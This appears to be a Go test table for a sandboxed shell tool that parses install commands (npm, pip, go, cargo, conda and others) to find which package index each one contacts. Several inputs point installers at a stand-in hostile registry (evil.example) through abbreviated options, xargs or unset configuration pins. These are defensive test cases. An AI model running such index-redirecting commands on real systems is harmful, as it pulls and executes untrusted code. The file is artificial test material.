package cmdline

import (
	"fmt"
	"net/url"
	"slices"
	"strings"
	"testing"

	"github.com/onellm/onellm-mcp/shelltool/toolchains"
)

// packageCases: each line's Packages as "name host manager ^command".
var packageCases = []struct {
	line string
	want []string
}{
	// npm and relatives: names with versions and scopes, flags, --registry, manifests.
	{"npm install left-pad", []string{"left-pad registry.npmjs.org npm ^0"}},
	{"npm i -D left-pad@1.3.0 @types/node@^20", []string{"left-pad@1.3.0 registry.npmjs.org npm ^0", "@types/node@^20 registry.npmjs.org npm ^0"}},
	{"npm add --save-exact --registry https://npm.example.com/ x@2", []string{"x@2 npm.example.com npm ^0"}},
	{"npm install --registry=http://127.0.0.1:4873 x", []string{"x 127.0.0.1 npm ^0"}},
	{"npm ci", []string{"(package.json) registry.npmjs.org npm ^0"}},
	{"npm install", []string{"(package.json) registry.npmjs.org npm ^0"}},
	{"npm ci --omit dev", []string{"(package.json) registry.npmjs.org npm ^0"}},
	// Command-line config outranks the sandbox's: a lockfile's own hosts,
	// a scope's registry.
	{"npm ci --replace-registry-host=never", []string{"(package.json) <dynamic> npm ^0"}},
	{"npm ci --replace-registry-host never", []string{"(package.json) <dynamic> npm ^0"}},
	{"npm i --@acme:registry=https://npm.acme.example/ @acme/x", []string{"@acme/x registry.npmjs.org npm ^0", "@acme/x npm.acme.example npm ^0"}},
	{"pnpm add --@acme:registry=https://p.example @acme/x", []string{"@acme/x registry.npmjs.org pnpm ^0", "@acme/x p.example pnpm ^0"}},
	{"npm i --@acme:registry=$R @acme/x", []string{"@acme/x registry.npmjs.org npm ^0", "@acme/x <dynamic> npm ^0"}},
	{"npm i --@:registry=https://e.example/ x", []string{"x registry.npmjs.org npm ^0"}},
	{"npm_config_registry=https://r.example npm install x", []string{"x r.example npm ^0"}},
	{"npm install -g --prefix /opt/n x", []string{"x registry.npmjs.org npm ^0"}},
	{"npm test", nil},
	// A word known only when run may be any option, one naming the index
	// too ("--registry=https://elsewhere"); so may a subcommand.
	{"npm install $PKG", []string{"<dynamic> <dynamic> npm ^0"}},
	{"npm install \"$PKG\" x", []string{"<dynamic> <dynamic> npm ^0", "x <dynamic> npm ^0"}},
	{"npm install --registry=$R x", []string{"x <dynamic> npm ^0"}},
	{"pip install $FLAGS x", []string{"<dynamic> <dynamic> pip ^0", "x <dynamic> pip ^0"}},
	{"npm $CMD x", []string{"<dynamic> <dynamic> npm ^0"}},
	{"npm run $SCRIPT", nil},
	{"npm install --registry $R x", []string{"x <dynamic> npm ^0"}},
	{"pnpm add -D vitest@1", []string{"vitest@1 registry.npmjs.org pnpm ^0"}},
	{"yarn", []string{"(package.json) registry.yarnpkg.com yarn ^0"}},
	{"yarn add react@18 --registry https://y.example", []string{"react@18 y.example yarn ^0"}},
	{"bun add zod", []string{"zod registry.npmjs.org bun ^0"}},
	// pip, python -m pip, uv pip: specifiers, indexes (one request per index), requirements.
	{"pip install requests", []string{"requests pypi.org pip ^0"}},
	{"pip3 install 'requests>=2.31' \"flask==3.0.0\"", []string{"requests>=2.31 pypi.org pip ^0", "flask==3.0.0 pypi.org pip ^0"}},
	{"python3 -m pip install -U pip", []string{"pip pypi.org pip ^0"}},
	// Install forms the table lacked (rev16 H9): npm init/create fetch the
	// initializer and run it; audit fix and dedupe re-install.
	// (npm init X runs the package create-X: lib/commands/init.js.)
	{"npm init vite", []string{"create-vite registry.npmjs.org npm ^0"}},
	{"npm create vite@latest my-app", []string{"create-vite@latest registry.npmjs.org npm ^0"}},
	{"npm init -y", nil},
	// npm cache add fetches what it names (review rev16d); yarn's version
	// and help options print and exit, installing nothing.
	// corepack fetches the managers it prepares (review rev16d M).
	{"corepack prepare pnpm@9.0.0 --activate", []string{"pnpm@9.0.0 registry.npmjs.org corepack ^0"}},
	// yarn 1 from registry.yarnpkg.com, 2 and later from repo.yarnpkg.com;
	// a range or the manifest's packageManager may be any (config.json).
	{"corepack install -g yarn@4", []string{"yarn@4 registry.npmjs.org corepack ^0", "yarn@4 registry.yarnpkg.com corepack ^0", "yarn@4 repo.yarnpkg.com corepack ^0"}},
	{"corepack install -g yarn@1.22.22", []string{"yarn@1.22.22 registry.yarnpkg.com corepack ^0"}},
	{"corepack prepare yarn@4.1.0", []string{"yarn@4.1.0 repo.yarnpkg.com corepack ^0"}},
	{"COREPACK_NPM_REGISTRY=https://r.example corepack prepare yarn@4.1.0", []string{"yarn@4.1.0 r.example corepack ^0"}},
	{"corepack up", []string{"(package.json) registry.npmjs.org corepack ^0", "(package.json) registry.yarnpkg.com corepack ^0", "(package.json) repo.yarnpkg.com corepack ^0"}},
	{"COREPACK_NPM_REGISTRY=https://r.example corepack use pnpm@9", []string{"pnpm@9 r.example corepack ^0"}},
	{"corepack enable", nil},
	{"npm cache add lodash@4", []string{"lodash@4 registry.npmjs.org npm ^0"}},
	{"npm cache add", nil},
	{"npm cache ls", nil},
	{"yarn --version", nil},
	{"yarn -v", nil},
	{"yarn --help", nil},
	{"npm audit fix", []string{"(package.json) registry.npmjs.org npm ^0"}},
	{"npm audit", nil},
	{"pnpm dedupe", []string{"(package.json) registry.npmjs.org pnpm ^0"}},
	{"uv tool upgrade ruff", []string{"ruff pypi.org uv ^0"}},
	{"pnpm it", []string{"(package.json) registry.npmjs.org pnpm ^0"}},
	{"yarn global add x", []string{"x registry.yarnpkg.com yarn ^0"}},
	{"yarn global list", nil},
	{"pip lock x", []string{"x pypi.org pip ^0"}},
	{"uv build", []string{"(pyproject.toml) pypi.org uv ^0"}},
	// More forms that fetch packages (rev16 H9, L1): npm link X installs X
	// (alone: the package's own dependencies), npm pack X and pnpm patch X
	// fetch X (alone: the local package, nothing), yarn set version and
	// plugin import fetch a release or plugin from yarn's own hosts, uv
	// python install a Python build, go list -m X@V queries the proxy.
	{"npm link lodash", []string{"lodash registry.npmjs.org npm ^0"}},
	{"npm ln @s/x", []string{"@s/x registry.npmjs.org npm ^0"}},
	{"npm link", []string{"(package.json) registry.npmjs.org npm ^0"}},
	{"npm pack lodash@4", []string{"lodash@4 registry.npmjs.org npm ^0"}},
	{"npm pack", nil},
	{"pnpm patch lodash", []string{"lodash registry.npmjs.org pnpm ^0"}},
	{"pnpm patch", nil},
	{"bun link lodash", []string{"lodash registry.npmjs.org bun ^0"}},
	{"yarn workspaces focus", []string{"(package.json) registry.yarnpkg.com yarn ^0"}},
	{"yarn set version 4.1.0", []string{"4.1.0 <dynamic> yarn ^0"}},
	{"yarn policies set-version 1.22.1", []string{"1.22.1 <dynamic> yarn ^0"}},
	{"yarn plugin import interactive-tools", []string{"interactive-tools <dynamic> yarn ^0"}},
	{"uv python install 3.12", []string{"3.12 <dynamic> uv ^0"}},
	{"uv python list", nil},
	{"go list -m golang.org/x/mod@v0.1.0", []string{"golang.org/x/mod@v0.1.0 proxy.golang.org go ^0"}},
	{"go list ./...", nil},
	{"go list -m all", nil},
	// GNU parallel appends its input (or puts it at {}): any package, and
	// any option (rev16: no install was seen).
	{"parallel npm i ::: lodash", []string{"<dynamic> <dynamic> npm ^2"}},
	{"parallel -j4 --halt now npm i {} ::: a b", []string{"<dynamic> <dynamic> npm ^2"}},
	// cargo's --registry names a registry the config maps to its index
	// (rev16 M2: the host was the name itself).
	{"cargo add x --registry myreg", []string{"x <dynamic> cargo ^0"}},
	{"cargo install --index https://idx.example/git x", []string{"x idx.example cargo ^0"}},
	// xargs appends what it reads: any option, any package (rev16 H1).
	{"echo --registry=https://evil.example | xargs npm i x", []string{"x <dynamic> npm ^2", "<dynamic> <dynamic> npm ^2"}},
	{"xargs -I{} npm i {}", []string{"<dynamic> <dynamic> npm ^1"}},
	// python's own options before -m (rev16 H2: these made no request).
	{"python3 -I -m pip install x", []string{"x pypi.org pip ^0"}},
	{"python3 -u -B -m pip install x", []string{"x pypi.org pip ^0"}},
	{"python -mpip install x", []string{"x pypi.org pip ^0"}},
	{"python3 -Im pip install x", []string{"x pypi.org pip ^0"}},
	{"python3 -X utf8 -W ignore -m pip install x", []string{"x pypi.org pip ^0"}},
	{"python3 -Xutf8 -Wignore -Impip3 install x", []string{"x pypi.org pip ^0"}},
	{"python3 -c 'import x' -m pip install x", nil},
	// Every CPython option before -m (Python/getopt.c); one python does
	// not know, or a word not literal, is read no further: an installer's
	// module after it may run, from anywhere (review of pkg27, item 1).
	{"python3 -R -m pip install x", []string{"x pypi.org pip ^0"}},
	{"python3 -B -E -I -O -OO -s -S -u -v -q -P -b -d -t -x -m pip install x", []string{"x pypi.org pip ^0"}},
	{"python3 -IBm pip install x", []string{"x pypi.org pip ^0"}},
	{"python3 -RIOOsSm pip install x", []string{"x pypi.org pip ^0"}},
	{"python3 -X dev -W error::DeprecationWarning -Xfrozen_modules=off -m pip install x", []string{"x pypi.org pip ^0"}},
	{"python3 -IW ignore -m pip install x", []string{"x pypi.org pip ^0"}},
	{"python3 --check-hash-based-pycs never -m pip install x", []string{"x pypi.org pip ^0"}},
	// "-m" is the value, "pip" the script: a script named pip is read as
	// pip's entry point (python3 /usr/bin/pip install x), so x is decided.
	{"python3 --check-hash-based-pycs -m pip install x", []string{"x pypi.org pip ^1"}},
	{"python3 --future -m pip install x", []string{"<dynamic> <dynamic> pip ^0"}},
	{"python3 -J -m pip install x", []string{"<dynamic> <dynamic> pip ^0"}},
	{"python3 -IZm pip install x", []string{"<dynamic> <dynamic> pip ^0"}},
	{"python3 --check-hash-based-pycs=never -Impip install x", []string{"<dynamic> <dynamic> pip ^0"}},
	{"python3 \"$OPT\" -m pip install x", []string{"<dynamic> <dynamic> pip ^0"}},
	{"python3 --future -m uv pip install x", []string{"<dynamic> <dynamic> uv ^0"}},
	{"python3 --future script.py", nil},
	{"python3 -h -m pip install x", nil},
	{"python3 -V -m pip install x", nil},
	{"python3 --help-all -m pip install x", nil},
	{"python3 -- -m pip install x", nil},
	{"python3 - -m pip install x", nil},
	{"python3 -m \"$M\" install x", nil},
	{"python3 tool.py -m pip install x", nil},
	// Other modules that run an installer (item 2).
	{"python3 -m pip.__main__ install x", []string{"x pypi.org pip ^0"}},
	{"python3 -m pip._internal install x", []string{"x pypi.org pip ^0"}},
	{"python3 -m pip._internal.cli.main install x", []string{"x pypi.org pip ^0"}},
	{"python3 -m uv pip install x", []string{"x pypi.org pip ^0"}},
	{"python3 -m uv add x", []string{"x pypi.org uv ^0"}},
	{"python3 -m uv.__main__ sync", []string{"(pyproject.toml) pypi.org uv ^0"}},
	{"python3 -m pipx install x", []string{"x pypi.org pipx ^0"}},
	{"python3 -m poetry add x", []string{"x pypi.org poetry ^0"}},
	{"python3 -I -m poetry.__main__ lock", []string{"(pyproject.toml) pypi.org poetry ^0"}},
	{"python3 -m pip_audit x", nil},
	{"python3 -m venv .venv", nil},
	{"python -m pip install -i https://idx.example/simple x", []string{"x idx.example pip ^0"}},
	{"pip install --index-url=http://127.0.0.1:8080/simple/ x==1", []string{"x==1 127.0.0.1 pip ^0"}},
	{"pip install --extra-index-url https://a.example/simple --extra-index-url https://b.example x",
		[]string{"x pypi.org pip ^0", "x a.example pip ^0", "x b.example pip ^0"}},
	{"pip install -r requirements.txt", []string{"(requirements.txt) pypi.org pip ^0"}},
	// A requirement or constraint file named by its URL is fetched from
	// that URL's host; what it lists comes from the index (item 3).
	{"pip install -r https://idx.example/req.txt", []string{"(https://idx.example/req.txt) pypi.org pip ^0", "https://idx.example/req.txt idx.example pip ^0"}},
	{"pip install --requirement=https://idx.example/r.txt -c HTTP://C.example/c.txt x", []string{"x pypi.org pip ^0", "(https://idx.example/r.txt) pypi.org pip ^0", "https://idx.example/r.txt idx.example pip ^0", "HTTP://C.example/c.txt c.example pip ^0"}},
	{"pip install --constraint https://c.example/c.txt -i https://i.example/simple x", []string{"x i.example pip ^0", "https://c.example/c.txt c.example pip ^0"}},
	{"uv pip install -r https://idx.example/r.txt", []string{"(https://idx.example/r.txt) pypi.org pip ^0", "https://idx.example/r.txt idx.example pip ^0"}},
	{"uv pip sync https://idx.example/r.txt", []string{"(https://idx.example/r.txt) pypi.org pip ^0", "https://idx.example/r.txt idx.example pip ^0"}},
	{"pip install -r file:///tmp/r.txt", []string{"(file:///tmp/r.txt) pypi.org pip ^0"}},
	{"pip install -r $URL", []string{"(<dynamic>) pypi.org pip ^0"}},
	{"pip install -e . --no-deps", []string{". pypi.org pip ^0"}},
	{"pip install --no-index --find-links ./wheels x", []string{"x  pip ^0"}},
	{"PIP_INDEX_URL=https://p.example/simple pip install x", []string{"x p.example pip ^0"}},
	{"uv pip install ruff==0.5", []string{"ruff==0.5 pypi.org pip ^0"}},
	{"uv add httpx --index-url https://u.example/simple", []string{"httpx u.example uv ^0"}},
	{"uv sync", []string{"(pyproject.toml) pypi.org uv ^0"}},
	{"pipx install black", []string{"black pypi.org pipx ^0"}},
	{"poetry add pendulum@^2.0", []string{"pendulum@^2.0 pypi.org poetry ^0"}},
	// Go: go get, go install X@V (a local install is no package), GOPROXY.
	{"go get example.com/m@v1.2.3", []string{"example.com/m@v1.2.3 proxy.golang.org go ^0"}},
	{"go get -u ./...", []string{"./... proxy.golang.org go ^0"}},
	{"go install golang.org/x/tools/gopls@latest", []string{"golang.org/x/tools/gopls@latest proxy.golang.org go ^0"}},
	{"go install -ldflags '-s -w' ./cmd/x", nil},
	{"go run golang.org/x/tools/cmd/stringer@v0.20.0 -type=T", []string{"golang.org/x/tools/cmd/stringer@v0.20.0 proxy.golang.org go ^0"}},
	{"go run . && go run ./cmd/x", nil},
	{"go build ./...", nil},
	{"GOPROXY=https://goproxy.example,direct go get github.com/a/b@v1",
		[]string{"github.com/a/b@v1 goproxy.example go ^0", "github.com/a/b@v1 github.com go ^0"}},
	{"export GOPROXY=off; go get x.org/y", []string{"x.org/y  go ^1"}},
	{"GOPROXY=file:///tmp/mod go install a.org/b@v1", []string{"a.org/b@v1  go ^0"}},
	// Rust, Ruby, PHP, conda.
	{"cargo add serde --features derive", []string{"serde index.crates.io cargo ^0"}},
	{"cargo add serde@1.0.200", []string{"serde@1.0.200 index.crates.io cargo ^0"}},
	{"cargo install ripgrep --version 14.1.0", []string{"ripgrep@14.1.0 index.crates.io cargo ^0"}},
	{"cargo install --git https://github.com/a/b", []string{"(Cargo.toml) github.com cargo ^0"}},
	{"cargo build", nil},
	{"gem install rails -v 7.1", []string{"rails@7.1 rubygems.org gem ^0"}},
	{"gem i", nil}, // names no gem: installs nothing
	{"bundle install", []string{"(Gemfile) rubygems.org bundle ^0"}},
	{"composer require monolog/monolog:^3", []string{"monolog/monolog:^3 repo.packagist.org composer ^0"}},
	// A channel's name is one of the channel alias's (conda.anaconda.org),
	// not a host; -c adds it to the configured channels.
	{"conda install -c conda-forge numpy=1.26", []string{"numpy=1.26 conda.anaconda.org conda ^0"}},
	{"conda install -c https://ch.example/c numpy", []string{"numpy conda.anaconda.org conda ^0", "numpy ch.example conda ^0"}},
	// Installers the table lacked (review of pkg27, item 7): create-X
	// initializers, composer global, corepack, mamba, pdm, rye, pixi.
	{"pnpm create vite my-app", []string{"create-vite registry.npmjs.org pnpm ^0"}},
	{"pnpm create create-vite", []string{"create-vite registry.npmjs.org pnpm ^0"}},
	{"yarn create vite", []string{"create-vite registry.yarnpkg.com yarn ^0"}},
	{"yarn create @s/app x", []string{"@s/create-app registry.yarnpkg.com yarn ^0"}},
	{"npm create @s", []string{"@s/create registry.npmjs.org npm ^0"}},
	{"npm init @s/app@2 --registry https://r.example", []string{"@s/create-app@2 r.example npm ^0"}},
	{"npm init create-x", []string{"create-create-x registry.npmjs.org npm ^0"}},
	{"npm init u/r", []string{"u/r github.com npm ^0"}},
	{"bun create x dir", []string{"create-x registry.npmjs.org bun ^0"}},
	{"bun create", nil},
	{"composer global require x/y", []string{"x/y repo.packagist.org composer ^0"}},
	{"composer global update", []string{"(composer.json) repo.packagist.org composer ^0"}},
	{"composer create-project laravel/laravel app '11.*'", []string{"laravel/laravel repo.packagist.org composer ^0"}},
	{"composer global show", nil},
	// corepack NAME[@VERSION] fetches that manager first (issue 16), then
	// runs it with the words after.
	{"corepack pnpm add lodash", []string{"pnpm registry.npmjs.org corepack ^0", "lodash registry.npmjs.org pnpm ^0"}},
	{"corepack pnpm@9 install", []string{"pnpm@9 registry.npmjs.org corepack ^0", "(package.json) registry.npmjs.org pnpm ^0"}},
	{"corepack pnpm@9.1.0 --version", []string{"pnpm@9.1.0 registry.npmjs.org corepack ^0"}},
	{"corepack yarn@4.1.0 add x", []string{"yarn@4.1.0 repo.yarnpkg.com corepack ^0", "x registry.yarnpkg.com yarn ^0"}},
	{"corepack npm i x", []string{"npm registry.npmjs.org corepack ^0", "x registry.npmjs.org npm ^0"}},
	{"corepack npm@10.8.0 ci", []string{"npm@10.8.0 registry.npmjs.org corepack ^0", "(package.json) registry.npmjs.org npm ^0"}},
	{"corepack npx cowsay hi", []string{"npm registry.npmjs.org corepack ^0", "cowsay registry.npmjs.org npm ^0"}},
	{"COREPACK_NPM_REGISTRY=https://r.example corepack pnpm@9 i", []string{"pnpm@9 r.example corepack ^0", "(package.json) registry.npmjs.org pnpm ^0"}},
	{"corepack pnpm@https://h.example/pnpm.tgz i", []string{"pnpm@https://h.example/pnpm.tgz h.example corepack ^0", "(package.json) registry.npmjs.org pnpm ^0"}},
	{"corepack \"$PM\" add x", []string{"<dynamic> <dynamic> npm ^0"}},
	{"corepack enable", nil},
	{"mamba install numpy", []string{"numpy conda.anaconda.org mamba ^0"}},
	{"micromamba install -c conda-forge numpy", []string{"numpy conda.anaconda.org micromamba ^0"}},
	{"micromamba create -n e -c https://ch.example/c numpy", []string{"numpy conda.anaconda.org micromamba ^0", "numpy ch.example micromamba ^0"}},
	{"mamba install -c $CH numpy", []string{"numpy conda.anaconda.org mamba ^0", "numpy <dynamic> mamba ^0"}},
	{"pdm add requests", []string{"requests pypi.org pdm ^0"}},
	{"pdm add -G dev -e ./lib pytest", []string{"./lib pypi.org pdm ^0", "pytest pypi.org pdm ^0"}},
	{"pdm install", []string{"(pyproject.toml) pypi.org pdm ^0"}},
	{"PDM_PYPI_URL=https://p.example/simple pdm lock", []string{"(pyproject.toml) p.example pdm ^0"}},
	{"pdm run pytest", nil},
	{"python3 -m pdm add x", []string{"x pypi.org pdm ^0"}},
	{"rye add requests", []string{"requests pypi.org rye ^0"}},
	{"rye add flask --git https://git.example/f", []string{"flask pypi.org rye ^0", "flask git.example rye ^0"}},
	{"rye sync", []string{"(pyproject.toml) pypi.org rye ^0"}},
	{"rye install black", []string{"black pypi.org rye ^0"}},
	{"rye run x", nil},
	{"pixi add numpy", []string{"numpy conda.anaconda.org pixi ^0"}},
	{"pixi add --pypi requests", []string{"requests pypi.org pixi ^0"}},
	{"pixi install", []string{"(pixi.toml) conda.anaconda.org pixi ^0"}},
	{"pixi global install -c https://ch.example/c rg", []string{"rg conda.anaconda.org pixi ^0", "rg ch.example pixi ^0"}},
	{"pixi exec -s python=3.12 python", []string{"python=3.12 conda.anaconda.org pixi ^0"}},
	{"pixi run test", nil},
	// Their configuration, written by the line, moves the index.
	{"pdm config pypi.url https://e.example/simple; pdm add x", []string{"x <dynamic> pdm ^1"}},
	{"pixi project channel add https://e.example/c; pixi add x", []string{"x <dynamic> pixi ^1"}},
	{"echo x >> pixi.toml; pixi install", []string{"(pixi.toml) <dynamic> pixi ^1"}},
	{"micromamba config append channels https://e.example; micromamba install x", []string{"x <dynamic> micromamba ^1"}},
	// System package managers: the index is the system's sources (no host).
	{"apt-get install -y --no-install-recommends curl=7.88.1-10 git", []string{"curl=7.88.1-10  apt-get ^0", "git  apt-get ^0"}},
	{"sudo apt install ./local.deb", []string{"./local.deb  apt ^1"}},
	{"apt-get update", nil},
	{"dnf install -y gcc", []string{"gcc  dnf ^0"}},
	{"apk add --no-cache bash", []string{"bash dl-cdn.alpinelinux.org apk ^0"}},
	{"brew install jq", []string{"jq formulae.brew.sh brew ^0"}},
	// Through wrappers and in lists.
	{"timeout 60 npm ci && pip install x", []string{"(package.json) registry.npmjs.org npm ^1", "x pypi.org pip ^2"}},
	{"env npm_config_registry=https://e.example npm i x", []string{"x e.example npm ^1"}},
	// npm reads npm_config_* in any case and "-" for "_": each names its setting.
	{"Npm_Config_Registry=https://e.example npm ci", []string{"(package.json) e.example npm ^0"}},
	{"NPM_CONFIG_REGISTRY=https://e.example npm ci", []string{"(package.json) e.example npm ^0"}},
	{"npm_config_replace_registry_host=never npm ci", []string{"(package.json) <dynamic> npm ^0"}},
	{"NPM_CONFIG_REPLACE_REGISTRY_HOST=never npm ci", []string{"(package.json) <dynamic> npm ^0"}},
	{"env npm_config_replace-registry-host=never npm ci", []string{"(package.json) <dynamic> npm ^1"}},
	{"npm_config_registry=https://e.example npm_config_replace_registry_host=never npm ci",
		[]string{"(package.json) e.example npm ^0", "(package.json) <dynamic> npm ^0"}},
	{"npm_config_replace_registry_host_x=1 npm ci", []string{"(package.json) registry.npmjs.org npm ^0"}},
	// A package named by its URL comes from that URL's host, whatever the
	// index (one request, not one per index).
	{"npm install https://h.example/x.tgz", []string{"https://h.example/x.tgz h.example npm ^0"}},
	{"npm i x@https://H.example/x.tgz", []string{"x@https://H.example/x.tgz h.example npm ^0"}},
	{"npm i --registry http://127.0.0.1:9/ http://127.0.0.2:9/x.tgz", []string{"http://127.0.0.2:9/x.tgz 127.0.0.2 npm ^0"}},
	{"npm i git+https://github.com/a/b.git", []string{"git+https://github.com/a/b.git github.com npm ^0"}},
	{"npm i --replace-registry-host=never https://h.example/x.tgz", []string{"https://h.example/x.tgz <dynamic> npm ^0"}},
	{"npm i file:///tmp/x.tgz ./y.tgz", []string{"file:///tmp/x.tgz registry.npmjs.org npm ^0", "./y.tgz registry.npmjs.org npm ^0"}},
	{"pip install --extra-index-url https://a.example/simple https://h.example/x.whl", []string{"https://h.example/x.whl h.example pip ^0"}},
	{"pip install 'x @ https://h.example/x.whl'", []string{"x @ https://h.example/x.whl h.example pip ^0"}},
	{"pip install -e git+https://github.com/a/b#egg=b", []string{"git+https://github.com/a/b#egg=b github.com pip ^0"}},
	{"pip install ''", []string{"<dynamic> pypi.org pip ^0"}}, // found by FuzzAnalyze
	{"pip install -e ''", []string{"<dynamic> pypi.org pip ^0"}},
	{"pip install 'x>=1 # see https://h.example/'", []string{"x>=1 # see https://h.example/ pypi.org pip ^0"}},
	// Two indexes where the tool uses one: npm keeps the last --registry,
	// pip the last -i; which of two spellings of npm_config_registry npm
	// reads is the environment's order. <dynamic>, never a guess.
	{"npm i --registry https://a.example --registry https://b.example x", []string{"x <dynamic> npm ^0"}},
	{"npm i --registry https://a.example/ --registry=https://A.example x", []string{"x a.example npm ^0"}},
	{"pip install -i https://a.example/simple --index-url https://b.example/simple x", []string{"x <dynamic> pip ^0"}},
	{"npm_config_registry=https://a.example NPM_CONFIG_REGISTRY=https://b.example npm install x", []string{"x <dynamic> npm ^0"}},
	{"NPM_CONFIG_REGISTRY=https://b.example npm_config_registry=https://a.example npm install x", []string{"x <dynamic> npm ^0"}},
	{"npm_config_registry=https://a.example NPM_CONFIG_REGISTRY=https://a.example/ npm install x", []string{"x a.example npm ^0"}},
	{"npm_config_registry=https://a.example npm i --registry https://b.example x", []string{"x <dynamic> npm ^0"}},
	{"export npm_config_registry=https://a.example; npm_config_registry=https://b.example npm ci", []string{"(package.json) <dynamic> npm ^1"}},
	{"env npm_config_registry=https://a.example Npm_Config_Registry=https://b.example npm ci", []string{"(package.json) <dynamic> npm ^1"}},
	{"PIP_INDEX_URL=https://a.example/simple UV_INDEX_URL=https://b.example/simple uv pip install x", []string{"x <dynamic> pip ^0"}},
	{"GOPROXY=https://a.example GOPROXY=https://b.example go get x.org/y", []string{"x.org/y <dynamic> go ^0"}},
	{"npm_config_registry=https://a.example npm i --replace-registry-host=never x", []string{"x a.example npm ^0", "x <dynamic> npm ^0"}},
	// An empty value is read as unset: the tool's own configuration.
	{"npm_config_registry= npm install x", []string{"x <dynamic> npm ^0"}},
	{"PIP_INDEX_URL='' pip install x", []string{"x <dynamic> pip ^0"}},
	{"GOPROXY= go get x.org/y", []string{"x.org/y <dynamic> go ^0"}},
	{"npm_config_registry+=/x npm install x", []string{"x <dynamic> npm ^0"}},
	// Removing what the sandbox pins (toolchains.IndexPins), or naming a
	// config file, hands the index to configuration the line does not show.
	{"unset npm_config_registry; npm ci", []string{"(package.json) <dynamic> npm ^1"}},
	{"unset NPM_CONFIG_REPLACE_REGISTRY_HOST && npm i x", []string{"x <dynamic> npm ^1"}},
	{"npm i x; unset npm_config_registry", []string{"x <dynamic> npm ^0"}}, // a loop may run it first
	{"unset -f npm_config_registry; npm i x", []string{"x registry.npmjs.org npm ^1"}},
	{"unset HOME_X; npm i x", []string{"x registry.npmjs.org npm ^1"}},
	{"env -u npm_config_registry npm ci", []string{"(package.json) <dynamic> npm ^1"}},
	{"env --unset=npm_config_replace_registry_host npm ci", []string{"(package.json) <dynamic> npm ^1"}},
	{"env -unpm_config_registry npm ci", []string{"(package.json) <dynamic> npm ^1"}},
	{"env -u PIP_CONFIG_FILE pip install x", []string{"x <dynamic> pip ^1"}},
	{"env -i PATH=/usr/bin npm ci", []string{"(package.json) <dynamic> npm ^1"}},
	{"env - npm ci", []string{"(package.json) <dynamic> npm ^1"}},
	{"env --ignore-environment pip install x", []string{"x <dynamic> pip ^1"}},
	{"env -i go get x.org/y", []string{"x.org/y <dynamic> go ^1"}},
	{"env -i apt-get install curl", []string{"curl  apt-get ^1"}},
	{"sudo npm ci", []string{"(package.json) <dynamic> npm ^1"}}, // sudo's env_reset
	{"sudo -E pip install x", []string{"x <dynamic> pip ^1"}},
	{"su -c 'npm i x'", []string{"x <dynamic> npm ^1"}},
	{"sudo apt-get install -y curl", []string{"curl  apt-get ^1"}},
	{"timeout 60 npm ci", []string{"(package.json) registry.npmjs.org npm ^1"}},
	{"env -u HOME npm ci", []string{"(package.json) registry.npmjs.org npm ^1"}},
	{"export -n npm_config_registry; npm ci", []string{"(package.json) <dynamic> npm ^1"}},
	{"declare +x PIP_CONFIG_FILE; pip install x", []string{"x <dynamic> pip ^1"}},
	{"bwrap --clearenv --ro-bind / / npm ci", []string{"(package.json) <dynamic> npm ^1"}},
	{"bwrap --unsetenv npm_config_registry --ro-bind / / npm ci", []string{"(package.json) <dynamic> npm ^1"}},
	{"npm_config_userconfig=./my.npmrc npm ci", []string{"(package.json) <dynamic> npm ^0"}},
	{"npm ci --userconfig ./my.npmrc", []string{"(package.json) <dynamic> npm ^0"}},
	{"npm i --globalconfig=/tmp/g --registry https://r.example x", []string{"x r.example npm ^0", "x <dynamic> npm ^0"}},
	{"pnpm add --userconfig ./u x", []string{"x <dynamic> pnpm ^0"}},
	// Options before the subcommand take their value as npm parses them.
	{"npm --userconfig ./u install x", []string{"x <dynamic> npm ^0"}},
	{"npm --replace-registry-host never ci", []string{"(package.json) <dynamic> npm ^0"}},
	{"npm --loglevel silent install x", []string{"x registry.npmjs.org npm ^0"}},
	{"npm --cache /tmp/c ci", []string{"(package.json) registry.npmjs.org npm ^0"}},
	// Index options under a spelling the parser expands (pip's optparse
	// and npm's nopt take an unambiguous prefix; nopt any leading dashes).
	{"npm --reg=https://evil.example i x", []string{"<dynamic> <dynamic> npm ^0"}},
	{"npm -reg https://evil.example i x", []string{"<dynamic> <dynamic> npm ^0"}},
	{"npm i --reg https://evil.example x", []string{"https://evil.example <dynamic> npm ^0", "x <dynamic> npm ^0"}},
	{"npm i -registry=https://evil.example x", []string{"x <dynamic> npm ^0"}},
	{"npm i --userc ./u x", []string{"./u <dynamic> npm ^0", "x <dynamic> npm ^0"}},
	{"npm i --global x", []string{"x registry.npmjs.org npm ^0"}},
	{"pnpm add --reg=https://evil.example x", []string{"x <dynamic> pnpm ^0"}},
	{"pip install --index-u https://evil.example x", []string{"https://evil.example evil.example pip ^0", "x <dynamic> pip ^0"}},
	{"pip install --extra-index=https://evil.example x", []string{"x <dynamic> pip ^0"}},
	{"pip install --find https://evil.example/links x", []string{"https://evil.example/links evil.example pip ^0", "x <dynamic> pip ^0"}},
	{"pipx install --pip-args='--index-url https://evil.example' x", []string{"x <dynamic> pipx ^0"}},
	{"pipx install --index https://evil.example x", []string{"https://evil.example <dynamic> pipx ^0", "x <dynamic> pipx ^0"}},
	// A removal whose name is known only when run may remove the pin.
	{"env -u \"$V\" pip install x", []string{"x <dynamic> pip ^1"}},
	{"unset $V; pip install x", []string{"x <dynamic> pip ^1"}},
	{"NPM_CONFIG_GLOBALCONFIG=/tmp/g npm i x", []string{"x <dynamic> npm ^0"}},
	{"PIP_CONFIG_FILE=./pip.conf pip install x", []string{"x <dynamic> pip ^0"}},
	{"PIP_FIND_LINKS=https://h.example/links pip install x", []string{"x <dynamic> pip ^0"}},
	{"PIP_CONFIG_FILE=/dev/null python3 -m pip install x", []string{"x <dynamic> pip ^0"}},
	{"unset PIP_CONFIG_FILE; npm i x", []string{"x registry.npmjs.org npm ^1"}},
	// Indexes added by assignments.
	{"PIP_EXTRA_INDEX_URL='https://a.example/simple https://b.example' pip install x",
		[]string{"x pypi.org pip ^0", "x a.example pip ^0", "x b.example pip ^0"}},
	{"pip install --no-index --extra-index-url https://a.example x", []string{"x  pip ^0"}},
	// A page of links (--find-links URL) may lead anywhere, --no-index or not.
	{"pip install --no-index -f https://h.example/links x", []string{"x  pip ^0", "x <dynamic> pip ^0"}},
	{"pip install --find-links=http://h.example/ x", []string{"x pypi.org pip ^0", "x <dynamic> pip ^0"}},
	{"pip install -f $L x", []string{"x pypi.org pip ^0", "x <dynamic> pip ^0"}},
	{"pip install --no-index -f ./wheels -f file:///w x", []string{"x  pip ^0"}},
	// npm_config_@scope:registry (env takes any name) as --@scope:registry.
